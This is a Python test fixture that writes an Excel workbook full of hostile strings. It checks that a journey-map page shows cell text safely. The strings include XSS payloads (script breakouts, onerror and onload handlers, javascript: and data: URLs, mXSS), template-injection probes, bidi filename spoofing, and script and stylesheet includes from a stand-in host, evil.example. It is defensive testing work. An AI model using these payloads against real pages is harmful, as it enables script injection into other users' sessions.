"""Hostile workshop text for the interactive page: markup, script, URLs and Unicode tricks.

`STRINGS` is everything a workshop could type that a careless page would run or misrender:
script tags and `</script>` breakouts (the page has its own inline script and maybe a JSON data
island), elements whose event handlers run on load (img onerror, svg onload), attribute
breakouts with both kinds of quote, `javascript:` and `data:text/html` URLs, closing tags that
would end the map's table early, HTML comments and CDATA, template syntax of Jinja2 and of
JavaScript template literals, markup that copies the page's own controls and `data-persona`
items, JavaScript line terminators (U+2028/U+2029), bidi overrides and zero-width characters, a
5,000-character cell and control characters.

`write_injection_workbook(path)` writes a rows-format workbook (Personas and Journey sheets,
plus Stages) that puts them where a page shows text: persona names, kinds, roles, quotes and
goals; the journey's name; stage names; lane names (column headers); map cells; emotion cells
(some of which still score, so a curve dot's tooltip carries hostile text too). Every string of
`STRINGS` lands in at least one map cell, so "every cell's text is on the page" covers them all.

The reader trims a cell and drops invisible control characters (`as_read` says what a string
becomes), and the page shows exactly that: as text, never as markup.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from openpyxl import Workbook

from mapbridge.importers.values import clean_text

#: 5,000 characters of text with markup in it, so a page that shortens, or escapes only the
#: start of a long string, shows.
LONG = ("A very long cell <b>with markup</b> & an end; " * 120)[:4990] + "<i>END</i>"
assert len(LONG) == 5000

#: Persona names (a persona's name is in a checkbox label, an "Only ..." button, legend entries,
#: curve tooltips, card headings and maybe attributes). No `;` or `,`: a Persona cell of the
#: Journey sheet names several personas with them.
PERSONA_NAMES = [
    "<img src=x onerror=\"alert('persona-1')\">Ana",
    "Ben</label></fieldset><script>alert('persona-2')</script>",
    "Chloé' onfocus='alert(3)' autofocus='",
    'Dev "><svg onload=alert(4)> {{7*7}} ${alert(4)}',
]

JOURNEY_NAME = "</title></h2><script>alert('journey')</script> Open an account"

STAGE_NAMES = [
    "<svg/onload=alert('stage-1')>Discover",
    'Apply" onclick="alert(\'stage-2\')" x="',
    "</th></tr></thead><tbody><tr><td>Fake stage",
    "\u202eylppA\u202c Verify",  # right-to-left override: reads "Apply" backwards
]

#: Column headers that become custom lanes (none of them names a known lane or field).
LANE_NAMES = [
    "<script>alert('lane-1')</script>Notes",
    "Quotes ' onmouseover='alert(\"lane-2\")' x='",
    '</td></tr><tr class="lane" data-lane="fake"><td>Fake lane',
]

#: Emotion cells that still score (a word the reader knows), with hostile text kept as typed.
SCORING_EMOTIONS = [
    "Frustrated <img src=x onerror=alert('emotion-a')>",
    "Happy </script><script>alert('emotion-b')</script>",
    "2 <svg onload=alert('emotion-c')>",
]

STRINGS: list[str] = [
    # script, and breaking out of the page's own <script> or a JSON island inside one
    '<script>alert("script-1")</script>',
    "</script><script>alert('script-2')</script>",
    "</SCRIPT ><script >alert(3)</script >",
    '"}]};alert("json-breakout");//</script><!--',
    '<script src="https://evil.example/x.js"></script>',
    # elements whose handlers run without a click
    "<img src=x onerror=\"alert('img-double')\">",
    "<img src='x' onerror='alert(\"img-single\")'>",
    "<svg onload=alert('svg')><circle r=9 /></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<details open ontoggle=alert('details')>",
    "<body onload=alert('body')>",
    # breaking out of an attribute, both quotes, and event handlers
    '" onmouseover="alert(\'attr-double\')" x="',
    "' onfocus='alert(\"attr-single\")' autofocus='",
    '"><b onclick="alert(1)">bold</b><"',
    '<a href="#" onclick="alert(\'click\')">a link</a>',
    # URLs
    "javascript:alert('javascript-url')",
    "<a href=\"JaVaScRiPt:alert('a-href')\">open</a>",
    "data:text/html,<script>alert('data-url')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnYmFzZTY0Jyk8L3NjcmlwdD4=",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
    "<base href=\"javascript:alert('base')//\">",
    "<form action=\"javascript:alert('form')\"><button>Go</button></form>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # closing the page's structure early
    "</td></tr></table><h1>Broken out of the table</h1>",
    "</div></section></main></body></html><p>after the page</p>",
    "</textarea></title></noscript></style><script>alert('raw-text')</script>",
    "<style>body { display: none !important }</style>",
    # comments and CDATA
    "<!-- an unclosed comment",
    "--> a comment end without a start",
    "<![CDATA[ <script>alert('cdata')</script> ]]>",
    # template syntax: Jinja2, JavaScript template literals
    "{{7*7}} {{ config }} {{ ''.__class__ }}",
    "{% raw %}{{ not raw }}{% endraw %} {# a Jinja comment #}",
    "${alert('template-literal')} `${7*7}`",
    # already-escaped text must stay as typed, not be unescaped
    "&lt;b&gt;escaped&lt;/b&gt; &amp;amp; &#60;script&#62; &quot;",
    "%3Cscript%3Ealert('percent')%3C/script%3E",
    # copies of the page's own controls and layer markers
    '<div class="item" data-persona="ana" hidden>spoofed item</div>',
    '<input type="checkbox" class="persona-toggle" id="toggle-evil" value="evil" checked>',
    '<button type="button" id="show-all">Show all</button>',
    # a formula that is text (stored as text, not as a formula)
    '=HYPERLINK("javascript:alert(\'formula\')","click me")',
    # Unicode: JavaScript line terminators, bidi override, zero-width, a lone combining mark
    "line\u2028separator and paragraph\u2029separator",
    "invoice\u202efdp.exe\u202c",
    "\u202ean override that is never closed, then more text",
    "zero\u200bwidth\u200cjoiner\u200dand\ufeffBOM",
    "\u0301 combining mark first, emoji 👩🏽‍💻 and “curly” ‘quotes’",
    # control characters: DEL and NEL (the reader drops DEL; NEL is kept)
    "a control\x7f character and a next-line\x85 one",
    # very long
    LONG,
    *PERSONA_NAMES,
    JOURNEY_NAME,
    *STAGE_NAMES,
    *LANE_NAMES,
    *SCORING_EMOTIONS,
]


def as_read(text: str) -> str:
    """What mapbridge reads from a cell holding `text` (trimmed, control characters dropped)."""
    return clean_text(text)


def _persona_rows() -> list[list[Any]]:
    header = ["Name", "Kind", "Role", "Goals", "Pain points", "Quote"]
    rows: list[list[Any]] = [header]
    kinds = ["Research", "Proto-persona", "Segment", "Research"]
    for i, name in enumerate(PERSONA_NAMES):
        rows.append(
            [
                name,
                kinds[i],
                STRINGS[(3 * i) % len(STRINGS)],
                STRINGS[(3 * i + 1) % len(STRINGS)],
                STRINGS[(3 * i + 2) % len(STRINGS)],
                LONG if i == 0 else STRINGS[(3 * i + 5) % len(STRINGS)],
            ]
        )
    return rows


def _journey_rows() -> list[list[Any]]:
    """One row per persona and stage; every string of STRINGS in at least one map cell."""
    header = ["Journey", "Persona", "Stage", "Actions", "Emotion", "Pain points", *LANE_NAMES]
    text_columns = len(header) - 4  # Actions, Pain points and the custom lanes
    rows: list[list[Any]] = [header]
    n = 0
    for p, persona in enumerate(PERSONA_NAMES):
        for s, stage in enumerate(STAGE_NAMES):
            texts = [STRINGS[(n + k) % len(STRINGS)] for k in range(text_columns)]
            n += text_columns
            if (p + s) % 2 == 0:  # a score (a number, or a known word with hostile text)
                emotion: Any = (
                    SCORING_EMOTIONS[(p + s) % len(SCORING_EMOTIONS)] if s % 3 == 0 else s - 1
                )
            else:  # text that does not score: kept as typed, a gap in the curve
                emotion = STRINGS[(7 * p + 3 * s) % len(STRINGS)]
            rows.append([JOURNEY_NAME, persona, stage, texts[0], emotion, *texts[1:]])
    assert n >= len(STRINGS), "every string needs a map cell"
    return rows


def _stage_rows() -> list[list[Any]]:
    return [["Emotion scale: -2..2"], ["Order", "Stage"]] + [
        [i + 1, stage] for i, stage in enumerate(STAGE_NAMES)
    ]


def write_injection_workbook(path: Path) -> Path:
    """Write the hostile workbook to `path` (an .xlsx) and return the path."""
    wb = Workbook()
    wb.remove(wb.active)
    sheets = {
        "Personas": _persona_rows(),
        "Journey": _journey_rows(),
        "Stages": _stage_rows(),
    }
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = ws.cell(row=r, column=c, value=value)
                if isinstance(value, str):  # typed text is text, even when it starts with "="
                    cell.data_type = "s"
    wb.save(path)
    return path
